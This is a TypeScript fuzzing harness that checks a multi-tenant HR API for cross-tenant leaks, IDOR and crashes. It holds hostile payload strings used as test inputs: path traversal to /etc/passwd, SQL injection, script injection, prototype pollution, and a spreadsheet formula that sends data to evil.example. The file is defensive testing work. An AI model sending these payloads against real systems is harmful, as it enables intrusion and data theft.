import { type Action, grantsOf, policyTable } from '../src/platform/access/policy';
import { ALL_ROLES, createTestOrg, type TestOrg } from './fixtures';
import type { TestApp } from './test-app';

/*
 * A property-based fuzzer generated from the OpenAPI document (issue #9): every operation gets
 * hostile paths, queries, bodies and headers, as every role of organisation A and anonymously.
 * Ids of organisation B — the other tenant — are mixed into paths, bodies and the
 * X-Organization-Id header; no response may contain one. Used by apps/server/src/__tests__/
 * fuzz.test.ts (a few hundred requests, with fast-check's shrinking) and `npm run bench -- fuzz`
 * (tens of thousands, with figures). fast-check is imported by the caller and passed in, so this
 * file is the same for both.
 */

type Fc = typeof import('fast-check').default;
type Arbitrary<T> = import('fast-check').Arbitrary<T>;
type Json = unknown;
type Schema = Record<string, unknown>;

export type Operation = { method: string; path: string; op: Schema };
export type Actor = { name: string; cookie: string | null };
export type FuzzRequest = {
  operation: Operation;
  actor: Actor;
  url: string;
  headers: Record<string, string>;
  body:
    | { kind: 'none' }
    | { kind: 'json'; text: string }
    | { kind: 'form'; fields: [string, string | Blob, string?][] };
};
export type FuzzOutcome = {
  status: number;
  code: string | null;
  leaked: string[];
  stackTrace: boolean;
  ms: number;
};

export type FuzzWorld = {
  app: TestApp['app'];
  doc: { paths: Record<string, Record<string, Schema>>; components?: { schemas?: Record<string, Schema> } };
  operations: Operation[];
  actors: Actor[];
  a: TestOrg;
  b: TestOrg;
  /** Ids of organisation A: real targets, so requests reach the services. */
  ownIds: string[];
  /** Ids of organisation B sent as attack payloads (paths, bodies, headers). */
  foreignIds: string[];
  /**
   * Ids of organisation B the fuzzer never sends (user ids, its sick case, measure, report): if
   * one shows up in an answer it came from B's data, not from a request echoed back.
   */
  secretIds: string[];
};

const ORIGIN = 'http://localhost:3000';

/** Two organisations with every role and a few records each (cases, measures, units). */
export async function prepareFuzzWorld(t: Pick<TestApp, 'app' | 'deps'>): Promise<FuzzWorld> {
  const a = await createTestOrg(t as TestApp, 'Fuzz A');
  const b = await createTestOrg(t as TestApp, 'Fuzz B');
  const extra = async (org: TestOrg) => {
    const cookie = org.users.hr.cookie;
    const post = async (path: string, body: unknown) => {
      const res = await t.app.request(path, {
        method: 'POST',
        headers: { Cookie: cookie, Origin: ORIGIN, 'Content-Type': 'application/json' },
        body: JSON.stringify(body),
      });
      const json = (await res.json().catch(() => ({}))) as { id?: string };
      return json.id ? [json.id] : [];
    };
    return [
      ...(await post('/api/v1/absences', { personId: org.inScopePersonId, startDate: '2026-01-05' })),
      ...(await post('/api/v1/measures', { description: 'Trapleuning', level: 'bron' })),
      ...(await post('/api/v1/incident-reports', {
        kind: 'unsafe_situation',
        description: 'Losse tegel',
        occurredOn: '2026-01-05',
      })),
    ];
  };
  const idsOf = (org: TestOrg) => [
    org.organizationId,
    ...Object.values(org.units),
    org.inScopePersonId,
    org.outOfScopePersonId,
    ...Object.values(org.users).map((u) => u.personId),
  ];
  const userIdsOf = (org: TestOrg) => Object.values(org.users).map((u) => u.userId);
  const doc = (await (await t.app.request('/api/openapi.json')).json()) as FuzzWorld['doc'];
  const operations = Object.entries(doc.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, op]) => ({ method: method.toUpperCase(), path, op })),
  );
  return {
    app: t.app,
    doc,
    operations,
    actors: [
      ...ALL_ROLES.map((role) => ({ name: role, cookie: a.users[role].cookie })),
      { name: 'anonymous', cookie: null },
    ],
    a,
    b,
    ownIds: [...idsOf(a), ...userIdsOf(a), ...(await extra(a))],
    foreignIds: idsOf(b),
    secretIds: [...userIdsOf(b), ...(await extra(b))],
  };
}

/** Control characters: PostgreSQL refuses NUL (22021) — the rule of packages/contracts/src/input-text.ts. */
const CONTROL_STRINGS = ['\u0000', 'a\u0000b', 'Jansen\u0000', '\u001b[31m', '\ud800', 'a\u0085b', '\u007f'];

const HOSTILE_STRINGS = [
  '',
  ' ',
  '%00',
  '%',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  "' OR '1'='1' --",
  '"; drop table person; --',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '__proto__',
  'constructor',
  'toString',
  '{{7*7}}',
  '$' + '{7*7}',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9999-99-99',
  '2024-02-30',
  '0000-01-01',
  '😀'.repeat(50),
  'x'.repeat(5000),
];

const HOSTILE_NUMBERS = [-1, 0, 0.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, -(2 ** 31)];

function resolve(world: FuzzWorld, schema: Schema | undefined): Schema {
  let s = schema ?? {};
  for (let i = 0; i < 10 && typeof s.$ref === 'string'; i++) {
    const name = (s.$ref as string).split('/').pop() as string;
    s = world.doc.components?.schemas?.[name] ?? {};
  }
  return s;
}

/** Arbitrary for a JSON schema, with a hostile value in place of any leaf now and then. */
function valueArb(fc: Fc, world: FuzzWorld, raw: Schema | undefined, depth: number): Arbitrary<Json> {
  const hostile = hostileArb(fc, world);
  const schema = resolve(world, raw);
  const of = (arb: Arbitrary<Json>) =>
    fc.oneof({ weight: 5, arbitrary: arb }, { weight: 1, arbitrary: hostile });
  const variants = (schema.anyOf ?? schema.oneOf) as Schema[] | undefined;
  if (variants?.length) return of(fc.oneof(...variants.map((v) => valueArb(fc, world, v, depth + 1))));
  if (Array.isArray(schema.enum)) return of(fc.constantFrom(...(schema.enum as Json[])));
  const types = Array.isArray(schema.type) ? (schema.type as string[]) : [schema.type as string | undefined];
  const arbs = types.map((type) => typedArb(fc, world, schema, type, depth));
  return of(arbs.length === 1 ? (arbs[0] as Arbitrary<Json>) : fc.oneof(...arbs));
}

function typedArb(
  fc: Fc,
  world: FuzzWorld,
  schema: Schema,
  type: string | undefined,
  depth: number,
): Arbitrary<Json> {
  switch (type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: (schema.minimum as number) ?? -10, max: (schema.maximum as number) ?? 1000 });
    case 'number':
      return fc.double({
        min: (schema.minimum as number) ?? -10,
        max: (schema.maximum as number) ?? 1000,
        noNaN: true,
      });
    case 'array':
      return depth > 4
        ? fc.constant([])
        : fc.array(valueArb(fc, world, schema.items as Schema, depth + 1), { maxLength: 3 });
    case 'object': {
      if (depth > 4) return fc.constant({});
      const props = (schema.properties ?? {}) as Record<string, Schema>;
      const required = new Set((schema.required ?? []) as string[]);
      const record: Record<string, Arbitrary<Json>> = {};
      for (const [k, v] of Object.entries(props)) record[k] = valueArb(fc, world, v, depth + 1);
      return fc.record(record, { requiredKeys: [...required].filter((k) => k in record) });
    }
    default:
      if (schema.format === 'date')
        return fc
          .date({ min: new Date('2015-01-01'), max: new Date('2030-12-31'), noInvalidDate: true })
          .map((d) => d.toISOString().slice(0, 10));
      if (schema.format === 'email') return fc.emailAddress();
      return fc.oneof(
        fc.string({ maxLength: (schema.maxLength as number) ?? 40 }),
        fc.constantFrom(...world.ownIds),
        fc.constantFrom(...world.foreignIds),
      );
  }
}

function hostileArb(fc: Fc, world: FuzzWorld): Arbitrary<Json> {
  return fc.oneof(
    fc.constantFrom(...CONTROL_STRINGS),
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.constantFrom(...HOSTILE_NUMBERS),
    fc.constantFrom(...world.foreignIds),
    fc.constantFrom(true, false, null, [], {}),
    fc.string({ unit: 'binary', maxLength: 30 }),
  );
}

/** Percent-encoded; an unpaired surrogate (not encodable) becomes its invalid UTF-8 bytes. */
const encodePathValue = (v: Json) => {
  const text = typeof v === 'string' ? v : JSON.stringify(v);
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
};

function pathArb(fc: Fc, world: FuzzWorld, path: string): Arbitrary<string> {
  const names = [...path.matchAll(/\{(\w+)\}/g)].map((m) => m[1] as string);
  if (!names.length) return fc.constant(path);
  const param = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...world.ownIds) },
    { weight: 3, arbitrary: fc.constantFrom(...world.foreignIds) },
    { weight: 2, arbitrary: fc.constantFrom(...CONTROL_STRINGS) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  );
  return fc.array(param, { minLength: names.length, maxLength: names.length }).map((values) => {
    let out = path;
    names.forEach((name, i) => {
      out = out.replace(`{${name}}`, encodePathValue(values[i]));
    });
    return out;
  });
}

function queryArb(fc: Fc, world: FuzzWorld, op: Schema): Arbitrary<string> {
  const params = ((op.parameters ?? []) as Schema[]).filter((p) => p.in === 'query');
  if (!params.length) return fc.constant('');
  const record: Record<string, Arbitrary<Json>> = {};
  for (const p of params) record[p.name as string] = valueArb(fc, world, p.schema as Schema, 1);
  return fc.record(record, { requiredKeys: [] }).map((q) => {
    const search = new URLSearchParams();
    for (const [k, v] of Object.entries(q)) search.append(k, typeof v === 'string' ? v : JSON.stringify(v));
    const text = search.toString();
    return text ? `?${text}` : '';
  });
}

function bodyArb(fc: Fc, world: FuzzWorld, op: Schema): Arbitrary<FuzzRequest['body']> {
  const content = ((op.requestBody as Schema | undefined)?.content ?? {}) as Record<string, Schema>;
  const json = content['application/json'];
  const form = content['multipart/form-data'];
  const garbage: Arbitrary<FuzzRequest['body']> = fc.oneof(
    fc.constant({ kind: 'none' as const }),
    fc
      .constantFrom(
        'not json',
        '{',
        '[]',
        'null',
        '{"__proto__":{"isAdmin":true}}',
        `${'['.repeat(5000)}${']'.repeat(5000)}`,
      )
      .map((text) => ({ kind: 'json' as const, text })),
    fc.jsonValue({ maxDepth: 3 }).map((v) => ({ kind: 'json' as const, text: JSON.stringify(v) })),
  );
  const arbs: Arbitrary<FuzzRequest['body']>[] = [garbage];
  if (json)
    arbs.push(
      valueArb(fc, world, json.schema as Schema, 0).map((v) => ({
        kind: 'json' as const,
        text: JSON.stringify(v) ?? 'null',
      })),
    );
  if (form)
    arbs.push(
      fc
        .record({
          name: fc.oneof(
            fc.constantFrom('medewerkers.csv', 'rapport.pdf', 'x.xlsx', 'a\u0000.pdf', '../../etc/passwd'),
            fc.string({ maxLength: 30 }),
          ),
          content: fc.oneof(
            fc.constantFrom(
              'Personeelsnummer;Roepnaam;Achternaam\n1;An;Jansen\n',
              '%PDF-1.4\n%%EOF\n',
              'PK\u0003\u0004garbage',
            ),
            fc.string({ unit: 'binary', maxLength: 200 }),
          ),
          fields: valueArb(fc, world, form.schema as Schema, 0),
        })
        .map(({ name, content, fields }) => ({
          kind: 'form' as const,
          fields: [
            ['file', new Blob([content]), name] as [string, Blob, string],
            ...Object.entries((fields && typeof fields === 'object' ? fields : {}) as Record<string, Json>)
              .filter(([k]) => k !== 'file')
              .map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)] as [string, string]),
          ],
        })),
    );
  return fc.oneof(...arbs.map((arbitrary, i) => ({ weight: i === 0 ? 1 : 4, arbitrary })));
}

function headersArb(fc: Fc, world: FuzzWorld): Arbitrary<Record<string, string>> {
  return fc
    .record(
      {
        origin: fc.oneof(
          { weight: 9, arbitrary: fc.constant(ORIGIN) },
          { weight: 1, arbitrary: fc.constantFrom('https://evil.example', 'null') },
        ),
        org: fc.option(fc.constantFrom(world.b.organizationId, world.a.organizationId, 'x', '%00'), {
          nil: undefined,
        }),
        lang: fc.constantFrom('nl', 'en', 'de', '*', 'x'.repeat(300), ''),
        contentType: fc.constantFrom(
          'application/json',
          'application/json',
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
        ),
      },
      { requiredKeys: ['origin', 'lang', 'contentType'] },
    )
    .map((h) => ({
      Origin: h.origin,
      'Accept-Language': h.lang,
      'Content-Type': h.contentType,
      ...(h.org ? { 'X-Organization-Id': h.org } : {}),
    }));
}

/** The actors whose role the operation's policy action (`x-access`) grants; all when public. */
function grantedActors(world: FuzzWorld, operation: Operation): Actor[] {
  const access = operation.op['x-access'];
  const grants = typeof access === 'string' && access in policyTable() ? grantsOf(access as Action) : null;
  const granted = world.actors.filter((a) => !grants || a.name in grants);
  return granted.length ? granted : world.actors;
}

/** Arbitrary requests over every operation of the document, as every actor. */
export function requestArb(fc: Fc, world: FuzzWorld): Arbitrary<FuzzRequest> {
  return fc.constantFrom(...world.operations).chain((operation) =>
    fc.record({
      operation: fc.constant(operation),
      // mostly a role the operation's policy action grants, so requests reach the handlers
      actor: fc.oneof(
        { weight: 3, arbitrary: fc.constantFrom(...grantedActors(world, operation)) },
        { weight: 1, arbitrary: fc.constantFrom(...world.actors) },
      ),
      url: fc
        .tuple(pathArb(fc, world, operation.path), queryArb(fc, world, operation.op))
        .map(([p, q]) => p + q),
      headers: headersArb(fc, world),
      body: bodyArb(fc, world, operation.op),
    }),
  );
}

/** Send one request and judge its answer. */
export async function sendFuzz(world: FuzzWorld, req: FuzzRequest): Promise<FuzzOutcome> {
  const headers: Record<string, string> = { ...req.headers };
  if (req.actor.cookie) headers.Cookie = req.actor.cookie;
  let body: string | FormData | undefined;
  const hasBody = !['GET', 'HEAD'].includes(req.operation.method);
  if (hasBody && req.body.kind === 'json') body = req.body.text;
  if (hasBody && req.body.kind === 'form') {
    const form = new FormData();
    for (const [k, v, name] of req.body.fields) {
      if (v instanceof Blob) form.append(k, v, name ?? 'file');
      else form.append(k, v);
    }
    body = form;
    delete headers['Content-Type'];
  }
  const started = performance.now();
  const res = await world.app.request(req.url, {
    method: req.operation.method,
    headers,
    ...(body !== undefined ? { body } : {}),
  });
  const text = new TextDecoder('latin1').decode(await res.arrayBuffer());
  const code = /"code":"([a-z_]+)"/.exec(text)?.[1] ?? null;
  // leaked: a secret id of B (never sent, so never an echo), or a B id from the path in a
  // successful answer (B's record was found: an IDOR). A B id sent as free text and stored by an
  // earlier request may come back as that text, so B ids in bodies are not judged.
  const path = req.url.split('?')[0] ?? '';
  const found = res.status >= 200 && res.status < 300;
  const leaked = [
    ...world.secretIds.filter((id) => text.includes(id)),
    ...world.foreignIds.filter((id) => found && path.includes(id) && text.includes(id)),
  ];
  return {
    status: res.status,
    code,
    leaked,
    stackTrace: /\n\s+at [^\n]+\.(ts|js|mjs):\d+/.test(text),
    ms: performance.now() - started,
  };
}

/** The server still answers normally: health, and the signed-in HR user of A. */
export async function isHealthy(world: FuzzWorld): Promise<boolean> {
  const health = await world.app.request('/api/health');
  const me = await world.app.request('/api/v1/me', { headers: { Cookie: world.a.users.hr.cookie } });
  return health.status === 200 && me.status === 200;
}

/** A one-line description of a request, for failure reports. */
export const describeRequest = (r: FuzzRequest) =>
  `${r.actor.name} ${r.operation.method} ${r.url.slice(0, 200)} ${r.body.kind === 'json' ? r.body.text.slice(0, 200) : r.body.kind}`;
